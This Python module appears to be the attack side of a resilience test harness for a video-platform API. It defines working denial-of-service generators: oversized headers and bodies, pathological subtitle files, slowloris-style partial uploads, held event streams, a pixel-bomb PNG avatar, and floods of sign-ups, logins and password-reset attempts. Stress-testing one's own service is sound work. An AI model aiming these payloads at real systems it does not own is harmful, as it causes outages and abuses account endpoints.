"""The attacks of `hostile.py`. Each is a generator that attacks until its process ends, and yields the status of each answer or 0."""

from __future__ import annotations

import hashlib
import io
import os
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import httpx
from PIL import Image

API: Final = "/api/v1"
_ATTACKER: Final = "127.0.0.2"


@dataclass(frozen=True)
class Prey:
    """What an attacker knows: the server's address, the token of an ordinary account and its video, and a folder with files to send."""

    url: str
    token: str
    video_id: str
    folder: Path

    def client(self, *, known: bool = True) -> httpx.Client:
        """An HTTP client from the attackers' address; known: with the account's token."""
        headers = {"Authorization": f"Bearer {self.token}"} if known else {}
        transport = httpx.HTTPTransport(local_address=_ATTACKER)
        return httpx.Client(base_url=self.url, headers=headers, timeout=60, transport=transport)

    def connect(self) -> socket.socket:
        """A bare connection from the attackers' address."""
        address = urlsplit(self.url)
        line = socket.create_connection((address.hostname, address.port), timeout=60, source_address=(_ATTACKER, 0))
        line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return line

    def open_upload(self, data: bytes) -> tuple[str, bytes]:
        """(id of an upload, head of the request that sends the whole file as its only part)."""
        with self.client() as client:
            video = client.post(f"{API}/videos", json={"title": "part"}).raise_for_status().json()["id"]
            said = {"mode": "whole", "file_name": "a.mkv", "size_bytes": len(data), "fingerprint": "ab" * 32}
            upload = client.post(f"{API}/videos/{video}/upload", json=said).raise_for_status().json()["id"]
            part = {"index": 0, "size_bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
            urls = client.post(f"{API}/uploads/{upload}/urls", json={"pieces": [part]}).raise_for_status().json()["urls"]
        address = urlsplit(urls[0]["url"])
        headers = {"Host": address.netloc, "Content-Length": str(len(data)), **urls[0]["headers"]}
        lines = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
        return upload, f"PUT {address.path}?{address.query} HTTP/1.1\r\n{lines}\r\n".encode()


Answers = Iterator[int]
Attack = Callable[[Prey], Answers]


def _repeat(prey: Prey, method: str, path: str, *, known: bool = True, **sent: Any) -> Answers:
    with prey.client(known=known) as client:
        while True:
            yield client.request(method, API + path, **sent).status_code


def huge_user_agents(prey: Prey) -> Answers:
    """A User-Agent of 380 kB, and one that just passes."""
    with prey.client(known=False) as client:
        while True:
            for size in (380_000, 30_000):
                yield client.get(f"{API}/feed", headers={"User-Agent": "Android " * (size // 8)}).status_code


def subrip_of_tags(prey: Prey) -> Answers:
    """SubRip of 300 kB that is one cue of opened tags."""
    text = "1\n00:00:01,000 --> 00:00:02,000\n" + "<" * 150_000 + "<b " * 50_000
    return _repeat(prey, "PUT", f"/videos/{prey.video_id}/captions/en", json={"language": "en", "label": "x", "srt": text})


def cues_without_length(prey: Prey) -> Answers:
    """60,000 cues that begin and end at once."""
    text = "WEBVTT\n\n" + "00:01.000 --> 00:01.000\nx\n\n" * 60_000
    return _repeat(prey, "PUT", f"/videos/{prey.video_id}/captions/en", json={"language": "en", "label": "x", "webvtt": text})


def many_text_tracks(prey: Prey) -> Answers:
    """A file with 900 text tracks, ten times."""
    file = (prey.folder / "tracks.mkv").read_bytes()
    with prey.client() as client:
        for number in range(10):
            data = file + bytes(number)  # equal files would be made once
            upload, head = prey.open_upload(data)
            with prey.connect() as line:
                line.sendall(head + data)
                yield int(line.recv(100).split()[1])
            client.post(f"{API}/uploads/{upload}/landed", json={"indexes": [0]}).raise_for_status()
            yield client.post(f"{API}/uploads/{upload}/complete", json={"pieces": 1}).status_code
        while True:
            yield client.get(f"{API}/videos/{prey.video_id}").status_code
            time.sleep(0.1)


def single_bytes(prey: Prey) -> Answers:
    """A part in 60,000 pieces of one byte."""
    data = os.urandom(60_000)
    while True:
        _, head = prey.open_upload(data)
        with prey.connect() as line:
            line.sendall(head)
            for at in range(len(data)):
                line.sendall(data[at : at + 1])
            yield int(line.recv(100).split()[1])


def silent_bodies(prey: Prey) -> Answers:
    """100 requests that begin a body and send none of it."""
    _, head = prey.open_upload(bytes(60_000))
    lines = [prey.connect() for _ in range(100)]
    for line in lines:
        line.sendall(head)
    while True:
        yield 0
        time.sleep(0.5)


def sign_ups(prey: Prey) -> Answers:
    with prey.client(known=False) as client:
        while True:
            name = os.urandom(8).hex()
            said = {"handle": f"a{name}", "email": f"{name}@example.com", "password": "a long password"}
            yield client.post(f"{API}/accounts", json=said).status_code


def wrong_passwords(prey: Prey) -> Answers:
    return _repeat(prey, "POST", "/sessions", known=False, json={"handle": "nobody", "password": "a wrong password"})


def reset_links(prey: Prey) -> Answers:
    said = {"token": f"0abc.9999999999.{'ab' * 32}", "password": "a long password"}
    return _repeat(prey, "POST", "/password-resets/confirm", known=False, json=said)


def event_streams(prey: Prey) -> Answers:
    """340 event streams."""
    lines: list[socket.socket] = []
    head = f"GET {API}/videos/{prey.video_id}/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {prey.token}\r\n\r\n"
    for _ in range(340):
        line = prey.connect()
        line.sendall(head.encode())
        lines.append(line)
        yield int(line.recv(100).split()[1])
    while True:
        yield 0
        time.sleep(0.5)


def large_bodies(prey: Prey) -> Answers:
    """Bodies of 16 MiB of brackets where a small one is meant."""
    return _repeat(prey, "POST", "/sessions", known=False, content=b"[" * 2**24, headers={"Content-Type": "application/json"})


def one_key(prey: Prey) -> Answers:
    """One part sent 30 times at once, and never whole; nothing is waited for."""
    data = bytes(60_000)
    _, head = prey.open_upload(data)
    while True:
        lines = [prey.connect() for _ in range(30)]
        for line in lines:
            line.sendall(head + data[:50_000])
        for line in lines:
            line.close()
        yield 0


def unread_answers(prey: Prey) -> Answers:
    """Requests whose answers nobody waits for."""
    request = b"GET /api/v1/search?q=ordinary HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    while True:
        lines = [prey.connect() for _ in range(30)]
        for line in lines:
            line.sendall(request)
        for line in lines:
            line.close()
        yield 0


def huge_pictures(prey: Prey) -> Answers:
    """Avatars of 12 megapixels in a few kilobytes."""
    with io.BytesIO() as file:
        Image.new("RGB", (4000, 3000)).save(file, "PNG")
        return _repeat(prey, "PUT", "/accounts/me/avatar", content=file.getvalue(), headers={"Content-Type": "image/png"})


def long_searches(prey: Prey) -> Answers:
    words = " ".join(f"{number:04d}aeiou" for number in range(20))
    return _repeat(prey, "GET", "/search", known=False, params={"q": words[:200]})


# Each with how many of its kind attack at a time.
ATTACKS: Final[dict[str, tuple[Attack, int]]] = {
    "User-Agents of 380 kB": (huge_user_agents, 4),
    "SubRip of tags": (subrip_of_tags, 4),
    "60,000 cues without length": (cues_without_length, 4),
    "900 text tracks": (many_text_tracks, 1),
    "60,000 bytes one by one": (single_bytes, 2),
    "100 silent bodies": (silent_bodies, 1),
    "sign-ups": (sign_ups, 8),
    "wrong passwords": (wrong_passwords, 8),
    "reset links": (reset_links, 8),
    "340 event streams": (event_streams, 1),
    "bodies of 16 MiB": (large_bodies, 4),
    "one part 30 times at once": (one_key, 2),
    "answers that nobody reads": (unread_answers, 2),
    "avatars of 12 megapixels": (huge_pictures, 6),
    "long searches": (long_searches, 4),
}
